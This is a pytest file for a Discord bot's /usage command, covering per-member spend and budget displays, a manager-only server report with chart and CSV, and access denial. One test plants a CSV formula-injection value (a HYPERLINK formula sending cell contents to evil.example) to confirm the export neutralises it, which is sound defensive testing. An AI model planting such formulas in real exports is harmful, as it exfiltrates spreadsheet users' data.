"""/usage through simcord: a member's own spend and budgets; a manager's server report with its
chart and CSV; nobody else sees the server's."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal
from typing import Any

import discord
import pytest

from bot.images.pricing import format_usd
from bot.store.budgets import Period
from bot.store.usage import Day
from bot.store.usage_chart import render_chart
from cogs.usage._cog import CHART_FILE, CSV_FILE, CSV_TOO_LARGE, MANAGERS_ONLY
from tests.cogs.support import fields, upload_limit
from tests.fakes.images_api import FakeImagesAPI, images_body, make_image, respond

PNG_SIGNATURE = b"\x89PNG\r\n\x1a\n"
DALL_E_2_SQUARE = Decimal("0.02")  # dall-e-2, standard, 1024x1024: its published price


@pytest.fixture
def bot_overrides(database_url: str) -> dict[str, Any]:
    return {"database_url": database_url, "member_budget": "$1/day;10 images/month"}


@pytest.fixture(scope="module", autouse=True)
def matplotlib_imported() -> None:
    """simcord allows the bot 5 s to settle; matplotlib's first import (and font cache) in a
    fresh process can take longer on a loaded machine, once per process, not per chart."""
    render_chart([Day(dt.date(2026, 1, 1), 1, 1, Decimal(1))])


async def draw(member: Any, channel: Any, count: int = 1) -> None:
    result = await member.slash(
        channel, "imagine", prompt="a lighthouse", model="dall-e-2", size="1024x1024", count=count
    )
    assert len(result.response.attachments) == count


@pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
async def test_a_member_sees_their_spend_what_is_left_and_their_latest_requests(
    simcord_env: Any, channel: Any, alice: Any, bob: Any, images_api: FakeImagesAPI
) -> None:
    await draw(alice, channel, count=2)
    await draw(alice, channel)
    await draw(bob, channel)  # not alice's

    result = await alice.slash(channel, "usage")

    assert result.response.ephemeral
    (embed,) = result.response.embeds
    shown = fields(embed)
    spent = format_usd(3 * DALL_E_2_SQUARE)
    assert shown["Today (UTC)"] == f"{spent} · 3 images · 2 requests"
    assert shown["This month (UTC)"] == f"{spent} · 3 images · 2 requests"
    now = discord.utils.utcnow()
    day_reset = discord.utils.format_dt(Period.DAY.reset(now), "R")
    month_reset = discord.utils.format_dt(Period.MONTH.reset(now), "R")
    assert shown["Budgets"] == (
        f"Yours: $1.00 per day: {spent} used or reserved, {format_usd(1 - 3 * DALL_E_2_SQUARE)} "
        f"left, resets {day_reset}\n"
        f"Yours: 10 images per month: 3 images used or reserved, 7 images left, resets "
        f"{month_reset}"
    )
    latest = shown["Your latest requests"].splitlines()
    assert len(latest) == 2
    assert latest[0].endswith("dall-e-2 1024x1024 standard 1 image: delivered, $0.02")
    assert latest[1].endswith("2 images: delivered, $0.04")
    assert result.response.attachments == []


async def test_a_manager_gets_the_servers_totals_top_members_models_chart_and_csv(
    simcord_env: Any,
    channel: Any,
    alice: Any,
    bob: Any,
    manager: Any,
    images_api: FakeImagesAPI,
) -> None:
    await draw(alice, channel, count=2)
    await draw(bob, channel)
    await draw(alice, channel)

    result = await manager.slash(channel, "usage", scope="server")

    assert result.response.ephemeral
    (embed,) = result.response.embeds
    shown = fields(embed)
    total = format_usd(4 * DALL_E_2_SQUARE)
    assert shown["Today (UTC)"] == f"{total} · 4 images · 3 requests"
    last_30 = shown["Last 30 days (UTC, the chart and the CSV)"]
    assert last_30 == f"{total} · 4 images · 3 requests"
    assert shown["Top members this month"].splitlines() == [
        f"<@{alice.id}>: {format_usd(3 * DALL_E_2_SQUARE)} · 3 images · 2 requests",
        f"<@{bob.id}>: {format_usd(DALL_E_2_SQUARE)} · 1 image · 1 request",
    ]
    assert shown["By model this month"] == f"dall-e-2: {total} · 4 images · 3 requests"
    assert embed.image.url == f"attachment://{CHART_FILE}"

    attachments = {a.filename: await a.read() for a in result.response.attachments}
    assert set(attachments) == {CHART_FILE, CSV_FILE}
    assert attachments[CHART_FILE].startswith(PNG_SIGNATURE)
    rows = list(csv.DictReader(io.StringIO(attachments[CSV_FILE].decode())))
    assert len(rows) == 3
    assert sum(Decimal(row["cost"]) for row in rows) == 4 * DALL_E_2_SQUARE
    assert sum(int(row["images_delivered"]) for row in rows) == 4
    assert {int(row["member_id"]) for row in rows} == {alice.id, bob.id}


HOSTILE_REQUEST_ID = '=HYPERLINK("https://evil.example/?"&A1,"Details")'


@pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
async def test_the_csv_holds_no_formula_that_an_upstream_request_id_could_plant(
    simcord_env: Any, channel: Any, alice: Any, manager: Any, images_api: FakeImagesAPI
) -> None:
    """A spreadsheet opening the CSV must show the image service's request id, not run it."""
    images_api.push(
        respond(
            200,
            images_body(make_image(1024, 1024)),
            headers={"x-request-id": HOSTILE_REQUEST_ID},
        )
    )
    await draw(alice, channel)

    result = await manager.slash(channel, "usage", scope="server")

    (csv_file,) = [a for a in result.response.attachments if a.filename == CSV_FILE]
    (row,) = csv.DictReader(io.StringIO((await csv_file.read()).decode()))
    assert row["request_id"] == "'" + HOSTILE_REQUEST_ID
    # No cell of the file starts as a formula would.
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())


@pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
async def test_a_csv_too_large_for_the_upload_limit_is_left_out_with_the_command_to_use(
    simcord_env: Any, channel: Any, alice: Any, manager: Any, images_api: FakeImagesAPI
) -> None:
    await draw(alice, channel)
    chart_alone = len(await (await manager.slash(channel, "usage", scope="server"))
                      .response.attachments[0].read())  # fmt: skip
    with upload_limit(chart_alone + 50):  # the chart fits, the CSV does not beside it
        result = await manager.slash(channel, "usage", scope="server")

    assert [a.filename for a in result.response.attachments] == [CHART_FILE]
    (embed,) = result.response.embeds
    assert embed.footer.text == CSV_TOO_LARGE.format(guild_id=str(channel.guild.id))


@pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
async def test_a_member_who_cannot_manage_the_server_does_not_see_its_usage(
    simcord_env: Any, channel: Any, alice: Any, bob: Any, images_api: FakeImagesAPI
) -> None:
    await draw(bob, channel)

    result = await alice.slash(channel, "usage", scope="server")

    assert result.response.ephemeral
    assert result.response.content == MANAGERS_ONLY
    assert result.response.embeds == []
    assert result.response.attachments == []
